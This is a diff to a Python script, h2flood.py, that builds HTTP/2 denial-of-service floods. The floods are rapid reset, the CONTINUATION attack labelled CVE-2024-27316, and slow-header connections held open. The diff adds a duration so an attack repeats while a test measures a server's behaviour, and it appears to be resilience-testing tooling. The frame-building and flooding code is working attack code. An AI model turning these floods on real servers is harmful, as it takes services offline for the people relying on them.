@@ -1,9 +1,9 @@
 #!/usr/bin/env python3
 """Floods of HTTP/2 frames as rows of bytes, and a process that sends one while a test measures something else.
 
-    h2flood.py NAME PORT CA_FILE PAIR_DIRECTORY
+    h2flood.py NAME PORT CA_FILE PAIR_DIRECTORY SECONDS
 
-Prints a line when the attack begins and one when it is over.
+Prints a line when the attack begins and one when it is over: the whole of it, and again until the seconds are over.
 """
 
 from __future__ import annotations
@@ -63,8 +63,14 @@ def empty_data(count: int) -> Iterator[bytes]:
 
 def continuation(count: int) -> Iterator[bytes]:
     """A head that never ends (CVE-2024-27316)."""
-    yield frame(Kind.HEADERS, END_STREAM, 1, b"".join(literal(*field) for field in get("/flood")))
-    yield from repeated(frame(Kind.CONTINUATION, 0, 1, literal("x-flood", "f" * 1000)), count)
+    yield FIRST_OF_HEAD
+    yield from repeated(MORE_OF_HEAD, count)
+
+
+def continuations(count: int) -> Iterator[bytes]:
+    """The same for whoever has to begin anew, on another connection, with each piece."""
+    for _ in range(count // BLOCK):
+        yield FIRST_OF_HEAD + MORE_OF_HEAD * BLOCK
 
 
 def empty_continuation(count: int) -> Iterator[bytes]:
@@ -97,6 +103,10 @@ def post(path: str) -> list[tuple[str, str]]:
     return [(":method", "POST"), *get(path)[1:]]
 
 
+FIRST_OF_HEAD = frame(Kind.HEADERS, END_STREAM, 1, b"".join(literal(*field) for field in get("/flood")))
+MORE_OF_HEAD = frame(Kind.CONTINUATION, 0, 1, literal("x-flood", "f" * 1000))
+
+
 def repeated(piece: bytes, count: int) -> Iterator[bytes]:
     block = piece * BLOCK
     for _ in range(count // BLOCK):
@@ -126,7 +136,7 @@ def pour(stream: socket.socket, pieces: Iterable[bytes], *, reads: bool, seconds
 
 FLOODS = {
     "rapid reset": lambda: rapid_reset(100_000),
-    "continuation": lambda: continuation(100_000),
+    "continuation": lambda: continuations(100_000),
 }
 
 
@@ -159,7 +169,9 @@ class Attacker:
         stream.sendall(b"GET / HTTP/1.1\r\nHost: ")
         return stream
 
-    def slow_heads(self, begin: Callable[[], socket.socket], count: int = 1000, threads: int = 4) -> None:
+    def slow_heads(
+        self, begin: Callable[[], socket.socket], until: float, count: int = 1000, threads: int = 4,
+    ) -> None:
         """Connections that begin a request and leave it at that."""
         held: list[socket.socket] = []
 
@@ -173,22 +185,25 @@ class Attacker:
         for worker in workers:
             worker.join()
         assert len(held) == count, f"only {len(held)} connections stand"
-        time.sleep(1)
+        time.sleep(max(1, until - time.monotonic()))
 
 
 def main() -> None:
-    name, port, authority, pair = sys.argv[1:]
+    name, port, authority, pair, seconds = sys.argv[1:]
     _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
     attacker = Attacker(int(port), Path(authority), Path(pair))
     print("begin", flush=True)
+    until = time.monotonic() + float(seconds)
     match name:
         case "slow heads":
-            attacker.slow_heads(attacker.begin_http2)
+            attacker.slow_heads(attacker.begin_http2, until)
         case "slow http1 heads":
-            attacker.slow_heads(attacker.begin_http1)
+            attacker.slow_heads(attacker.begin_http1, until)
         case _:
             attacker.flood(FLOODS[name]())
+            while time.monotonic() < until:
+                attacker.flood(FLOODS[name]())
     print("over", flush=True)
 
 
